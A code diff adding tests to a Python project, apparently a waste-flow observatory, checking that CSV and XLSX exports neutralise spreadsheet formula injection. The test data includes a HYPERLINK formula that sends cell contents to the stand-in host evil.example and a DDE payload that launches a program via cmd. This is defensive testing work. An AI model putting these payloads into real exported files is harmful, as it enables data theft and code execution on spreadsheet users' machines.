@@ -116,6 +116,51 @@ def test_observatory_report_pdf_without_chromium_says_why(obs_world, tmp_path, m
     assert "Chromium" in capsys.readouterr().err
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)",
+            "\tTab", "\rRetour"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_neutralise_formula_text_and_keep_numbers(obs_world, tmp_path, fmt):
+    """Formula-like labels, names and ids are stored as written, and leave as text with a leading '."""
+    from boucle.testing import make_flow
+
+    site = obs_world.sites["lille_a"]
+    site.name = FORMULAS[3]
+    site.save()
+    for i, label in enumerate(FORMULAS):
+        make_flow(site, label, quantity=10 + i, unit="t", material_class="foundry_sand")
+    out = tmp_path / f"flows.{fmt}"
+    assert _run("export", "--territory", f"epci:{MEL}", "--what", "flows", "--format", fmt, "--output", str(out)) == 0
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
+        cells = {r["label"]: r for r in rows}
+        quantities = [r["quantity_per_year"] for r in rows]
+    else:
+        sheet = load_workbook(out)["flows"]
+        header = [c.value for c in sheet[1]]
+        rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
+        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]  # no formula cell at all
+        cells = {r["label"].value: {k: c.value for k, c in r.items()} for r in rows}
+        quantities = [r["quantity_per_year"].value for r in rows]
+        assert all(isinstance(q, (int, float)) for q in quantities if q is not None)  # numbers stay numbers
+    for label in FORMULAS:
+        assert "'" + label in cells, label
+    assert all(r["site_name"] == "'" + FORMULAS[3] for r in cells.values() if r["site_id"] == site.site_id)
+    assert "Sables de fonderie" in cells  # ordinary text untouched
+
+
+def test_call_answers_export_neutralises_formulas_through_the_same_writer():
+    from boucle.projects import export
+
+    table = [["answer_id", "company"], [1, "=cmd|' /C calc'!A0"], [2, "-1"], [3, -1], [4, "\t=1+1"], [5, "\r=2+2"]]
+    text = export.to_csv(table).decode("utf-8-sig")
+    assert "'=cmd|" in text and ";'-1" in text and "3;-1" in text
+    assert "4;'\t=1+1" in text and '5;"\'\r=2+2"' in text  # tab and carriage return too (the old helper missed them)
+    sheet = load_workbook(io.BytesIO(export.to_xlsx(table)))["answers"]
+    assert [c.value for c in sheet["B"]][1:] == ["'=cmd|' /C calc'!A0", "'-1", -1, "'\t=1+1", "'\r=2+2"]
+
+
 def test_flow_export_keeps_its_columns_and_says_which_flows_are_hazardous(tmp_path):
     from boucle.observatory.exports import FLOW_COLUMNS
     from boucle.testing import make_flow, make_site
